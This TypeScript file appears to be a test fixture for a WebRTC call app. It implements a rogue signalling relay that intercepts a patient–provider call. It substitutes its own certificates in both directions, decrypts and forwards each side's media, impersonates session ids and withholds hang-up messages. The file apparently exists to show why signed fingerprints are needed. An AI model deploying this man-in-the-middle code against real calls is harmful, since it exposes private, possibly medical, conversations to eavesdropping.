/**
 * The attack signed fingerprints are for: a signalling server that puts itself between two callers.
 *
 * Two connections, one towards each victim. Signed hellos pass through untouched (they cannot be made); every description is
 * answered with a certificate of our own, and what one victim sends is forwarded to the other, decrypted here.
 */
interface Said {
  kind: string;
  sid: string;
  to: string;
  description?: RTCSessionDescriptionInit;
  candidate?: RTCIceCandidateInit | null;
}

class Side {
  readonly pc = new RTCPeerConnection({ iceServers: [], bundlePolicy: "max-bundle" });
  /** Session of the victim, and of the person we play to it. */
  victim = "";
  played = "";
  other!: Side;
  tapped = 0;

  constructor(
    readonly seat: string,
    readonly as: string,
  ) {
    this.pc.onicecandidate = ({ candidate }) => this.say({ kind: "candidate", candidate: candidate?.toJSON() ?? null });
    this.pc.onnegotiationneeded = () => then(() => this.offer());
    this.pc.ontrack = ({ track, streams }) => {
      this.tapped += 1;
      this.other.pc.addTransceiver(track, { direction: "sendonly", streams: [...streams] });
    };
  }

  say(frame: object): void {
    send(this.as, this.seat, { ...frame, sid: this.played, to: this.victim });
  }

  async offer(): Promise<void> {
    await this.pc.setLocalDescription();
    this.say({ kind: "description", description: this.pc.localDescription });
  }

  async hear(frame: Said): Promise<void> {
    if (frame.kind === "candidate") await this.pc.addIceCandidate(frame.candidate ?? undefined);
    if (frame.kind !== "description" || !frame.description) return;
    // To each we are what the person we play is: impolite to the patient, polite to the provider.
    const collision = frame.description.type === "offer" && this.pc.signalingState !== "stable";
    if (collision && this.seat === "patient") return;
    await this.pc.setRemoteDescription(frame.description);
    if (frame.description.type !== "offer") return;
    await this.pc.setLocalDescription();
    this.say({ kind: "description", description: this.pc.localDescription });
  }
}

const socket = new WebSocket(`ws://${location.host}/relay?seat=mallory`);

function send(as: string, to: string, d: object): void {
  socket.send(JSON.stringify({ as, to, d }));
}

const towards = { patient: new Side("patient", "provider"), provider: new Side("provider", "patient") };
towards.patient.other = towards.provider;
towards.provider.other = towards.patient;

let queue = Promise.resolve();
const errors: string[] = [];

function then(act: () => Promise<void>): void {
  queue = queue.then(act).catch((error: unknown) => void errors.push(String(error)));
}

socket.onmessage = (message) => {
  const { from, d } = JSON.parse(String(message.data)) as { from: "patient" | "provider"; d: Said };
  const side = towards[from];
  // Towards the other victim we are this one, session and all.
  side.victim = d.sid;
  side.other.played = d.sid;
  if (d.kind === "description" || d.kind === "candidate") then(() => side.hear(d));
  // "bye" is kept back: each victim has to find out by itself.
  else if (d.kind !== "bye") send(from, side.other.seat, d);
};

Object.assign(window, {
  mallory: () => ({
    tapped: towards.patient.tapped + towards.provider.tapped,
    connected: [towards.patient.pc.connectionState, towards.provider.pc.connectionState],
    errors,
  }),
});
